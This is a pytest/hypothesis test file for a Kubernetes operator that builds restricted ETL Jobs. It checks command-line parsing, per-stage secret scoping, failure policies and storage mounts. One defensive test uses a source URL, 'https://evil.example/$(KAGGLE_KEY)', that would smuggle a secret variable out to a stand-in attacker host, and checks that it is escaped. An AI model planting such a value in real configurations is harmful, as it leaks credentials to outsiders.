"""The Jobs of a run: command lines as the ETL takes them, in restricted pods."""

import os
import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from typing import Any

import pytest
import typer
from hypothesis import given
from typer.core import TyperGroup

from superzol_etl.__main__ import app
from superzol_etl.clean.gates import Gates
from superzol_etl.commands.gates import read_gates
from superzol_etl.errors import (
    BadData,
    EtlError,
    NotAllowed,
    NotFound,
    PassingTrouble,
    UsageError,
    WrongConfiguration,
)
from superzol_etl.settings import RUN_ID
from superzol_etl.sources.address import SourceKind, parse_address
from superzol_operator.command_lines import command_line, ledger_run_id
from superzol_operator.decide.contract import CreateJob
from superzol_operator.jobs import PERMANENT_EXIT_CODES, JobDefaults, build_job
from superzol_operator.resource import Resource
from tests.support.refreshes import STAGES, Json, job_of, resource_of, wanted_jobs

DEFAULTS = JobDefaults("localhost/superzol-etl:dev")
KINDS = {
    "kaggle": SourceKind.KAGGLE,
    "directory": SourceKind.FOLDER,
    "http": SourceKind.WEB,
    "api": SourceKind.API,
    "s3": SourceKind.BUCKET,
}
MINIMAL: Json = {
    "source": {"kaggle": {"dataset": "owner/prices", "secretRef": {"name": "kaggle"}}},
    "storage": {"claimName": "data"},
    "target": {"postgres": {"secretRef": {"name": "postgres"}}},
}


def build(stage: str, **spec: object) -> Json:
    resource = resource_of(MINIMAL | spec)
    return build_job(resource, job_of(resource, stage), DEFAULTS)


def container_of(manifest: Json) -> Json:
    found: Json = manifest["spec"]["template"]["spec"]["containers"][0]
    return found


def command_of(manifest: Json) -> list[str]:
    """The words that the container gets: Kubernetes reads $$ as $."""
    return [word.replace("$$", "$") for word in container_of(manifest)["command"]]


@contextmanager
def environment_of(manifest: Json) -> Iterator[None]:
    """The environment that a pod of the Job would give its program."""
    kept = dict(os.environ)
    for each in container_of(manifest)["env"]:
        os.environ[each["name"]] = each.get("value", "postgresql://from-the-secret/superzol")
    if manifest["spec"].get("completionMode") == "Indexed":
        os.environ["JOB_COMPLETION_INDEX"] = str(manifest["spec"]["completions"] - 1)
    try:
        yield
    finally:
        os.environ.clear()
        os.environ.update(kept)


def parsed(manifest: Json) -> dict[str, Any]:
    """What the ETL's own parser makes of the command line of a Job."""
    program, stage, *words = command_of(manifest)
    group = typer.main.get_command(app)
    assert isinstance(group, TyperGroup) and program == "superzol-etl"
    with environment_of(manifest):
        return group.commands[stage].make_context(stage, words).params


@given(wanted_jobs())
def test_the_etl_understands_every_command_line(wanted: tuple[Resource, CreateJob]) -> None:
    resource, job = wanted
    spec = resource.spec
    told = parsed(build_job(resource, job, DEFAULTS))
    assert told.get("dataset", spec.dataset) == spec.dataset
    if "run_id" in told and job.stage != "cleanup":
        assert told["run_id"] == ledger_run_id(resource, job.run_id)
    if "volume" in told:
        assert str(told["volume"]) == f"/data/{spec.storage.path}"
    if "store" in told:
        assert told["store"] == spec.storage.bucket
    if job.stage == "backfill":
        assert str(told["lake"]) == f"/data/{spec.storage.path}/lake"
    if job.stage in ("fetch", "load", "publish"):
        assert told["version"] == job.version
    if job.stage in ("load", "publish", "backfill"):
        assert told["owner"] == "super-zol/" + resource.name
    if job.stage == "load":
        assert told["shard"] == f"{spec.load.shards - 1}/{spec.load.shards}"


@given(wanted_jobs().filter(lambda wanted: wanted[1].stage == "fetch"))
def test_a_fetch_asks_for_the_source_and_what_to_keep_of_it(
    wanted: tuple[Resource, CreateJob],
) -> None:
    resource, job = wanted
    spec, told = resource.spec, parsed(build_job(resource, job, DEFAULTS))
    assert parse_address(told["source"]).kind == KINDS[spec.source.kind]
    assert told["keep_versions"] == spec.retention.keep_last
    assert told["keep_archives"] == spec.retention.keep_archives
    assert told["keep_seconds"] == spec.retention.max_age_seconds
    assert tuple(told["only"] or ()) == spec.source.files


@given(wanted_jobs())
def test_a_pod_is_restricted_and_gets_the_secrets_of_its_stage_only(
    wanted: tuple[Resource, CreateJob],
) -> None:
    resource, job = wanted
    spec = build_job(resource, job, DEFAULTS)["spec"]["template"]["spec"]
    container, source, storage = spec["containers"][0], resource.spec.source, resource.spec.storage
    assert spec["securityContext"]["runAsNonRoot"] and not spec["automountServiceAccountToken"]
    assert container["securityContext"]["readOnlyRootFilesystem"]
    secrets = {each["secret"]["secretName"] for each in spec["volumes"] if "secret" in each}
    secrets |= {each["secretRef"]["name"] for each in container["envFrom"]}
    secrets |= {
        each["valueFrom"]["secretKeyRef"]["name"]
        for each in container["env"]
        if "valueFrom" in each
    }
    allowed = {storage.secret_name} if job.stage != "accept" else set()
    if job.stage == "fetch":
        allowed |= {source.secret_name}
    elif job.stage != "cleanup":
        allowed |= {resource.spec.target_secret_name}
    assert secrets == allowed - {None}


@given(wanted_jobs())
def test_a_secret_that_is_missing_is_missed_by_the_container_and_not_by_a_volume(
    wanted: tuple[Resource, CreateJob],
) -> None:
    resource, job = wanted
    spec = build_job(resource, job, DEFAULTS)["spec"]["template"]["spec"]
    container = spec["containers"][0]
    needed = [each["secretRef"] for each in container["envFrom"]]
    needed += [
        each["valueFrom"]["secretKeyRef"] for each in container["env"] if "valueFrom" in each
    ]
    assert not any(each.get("optional") for each in needed)
    mounted = [each["secret"] for each in spec["volumes"] if "secret" in each]
    assert all(each["optional"] for each in mounted)
    assert {each["secretName"] for each in mounted} <= {each["name"] for each in needed}


@given(wanted_jobs())
def test_labels_of_a_person_never_replace_ours(wanted: tuple[Resource, CreateJob]) -> None:
    resource, job = wanted
    manifest = build_job(resource, job, DEFAULTS)
    labels = manifest["spec"]["template"]["metadata"]["labels"]
    assert labels["refresh.superzol.com/stage"] == job.stage
    assert manifest["metadata"]["labels"].items() <= labels.items()


def test_what_a_person_writes_names_no_variable_of_the_pod() -> None:
    source = {"http": {"url": "https://evil.example/$(KAGGLE_KEY)", "secretRef": {"name": "key"}}}
    manifest = build("fetch", source=source)
    assert "--source=https://evil.example/$$(KAGGLE_KEY)" in container_of(manifest)["command"]
    assert parsed(manifest)["source"] == "https://evil.example/$(KAGGLE_KEY)"


def test_the_parts_of_a_load_fail_by_themselves() -> None:
    spec = build("load", run={"podRetries": 1}, load={"parallelism": 9})["spec"]
    assert (spec["completionMode"], spec["completions"], spec["parallelism"]) == ("Indexed", 4, 4)
    assert spec["backoffLimitPerIndex"] == 1
    assert not {"backoffLimit", "maxFailedIndexes"} & set(spec)
    assert [rule["action"] for rule in spec["podFailurePolicy"]["rules"]] == ["Ignore", "FailIndex"]


@pytest.mark.parametrize("stage", [stage for stage in STAGES if stage != "load"])
def test_a_permanent_failure_ends_a_job_and_an_eviction_does_not_count(stage: str) -> None:
    spec = build(stage)["spec"]
    disrupted, permanent = spec["podFailurePolicy"]["rules"]
    assert (disrupted["action"], permanent["action"]) == ("Ignore", "FailJob")
    assert disrupted["onPodConditions"][0]["type"] == "DisruptionTarget"
    assert spec["backoffLimit"] == 2


def test_exactly_the_codes_that_no_second_try_heals_are_permanent() -> None:
    kinds = {UsageError, BadData, NotFound, NotAllowed, WrongConfiguration}
    assert set(PERMANENT_EXIT_CODES) == {kind.exit_code for kind in kinds}
    assert not {EtlError.exit_code, PassingTrouble.exit_code} & set(PERMANENT_EXIT_CODES)


def test_the_gates_of_a_resource_are_those_of_the_load() -> None:
    checks = {"maxShrinkPercent": 0, "maxRejectedPercent": 7, "maxJumpedPercent": 9}
    with environment_of(build("load", validate=checks)):
        assert read_gates() == Gates(
            max_shrink_percent=0, max_rejected_percent=7, max_jumped_percent=9
        )
    with environment_of(build("load")):
        assert read_gates() == Gates()


@given(wanted_jobs())
def test_every_stage_but_the_cleanup_of_a_volume_is_of_the_dataset_of_its_resource(
    wanted: tuple[Resource, CreateJob],
) -> None:
    resource, job = wanted
    is_told = f"--dataset={resource.spec.dataset}" in command_line(resource, job)
    assert is_told == (job.stage != "cleanup")


def test_runs_of_two_resources_never_share_a_name_in_the_ledger() -> None:
    one = resource_of(MINIMAL, "a" * 40)
    again = replace(one, uid="another")
    names = {ledger_run_id(resource, "s-202606020200") for resource in (one, again)}
    assert len(names) == 2
    assert all(re.fullmatch(RUN_ID, name) for name in names)


def test_a_folder_of_another_claim_is_mounted_and_only_read() -> None:
    manifest = build("fetch", source={"directory": {"path": "drop", "claimName": "inbox"}})
    mounts = {each["name"]: each for each in container_of(manifest)["volumeMounts"]}
    assert mounts["source"]["readOnly"]
    assert parsed(manifest)["source"] == "dir:/source/drop"
    assert parsed(build("fetch", source={"directory": {"path": "in"}}))["source"] == "dir:/data/in"


def test_without_a_claim_versions_pass_through_a_bucket() -> None:
    manifest = build("load", storage={"s3": {"bucket": "zol", "prefix": "p"}})
    volumes = manifest["spec"]["template"]["spec"]["volumes"]
    assert {"name": "data", "emptyDir": {}} in volumes
    assert parsed(manifest)["store"] == "s3://zol/p"


@pytest.mark.parametrize("stage", ["fetch", "load", "publish", "cleanup"])
def test_every_stage_knows_where_the_bucket_of_the_storage_is(stage: str) -> None:
    bucket = {"bucket": "zol", "endpoint": "http://minio:9000", "region": "eu-central-1"}
    with environment_of(build(stage, storage={"s3": bucket})):
        assert os.environ["AWS_ENDPOINT_URL"] == "http://minio:9000"
        assert os.environ["AWS_REGION"] == "eu-central-1"


def test_resources_are_those_of_the_stage_before_those_of_all() -> None:
    small, large = {"limits": {"memory": "1Gi"}}, {"limits": {"memory": "9Gi"}}
    template = {"resources": {"load": large, "default": small}}
    assert container_of(build("load", podTemplate=template))["resources"] == large
    assert container_of(build("fetch", podTemplate=template))["resources"] == small
    assert container_of(build("fetch"))["resources"]["limits"] == {"memory": "2Gi"}
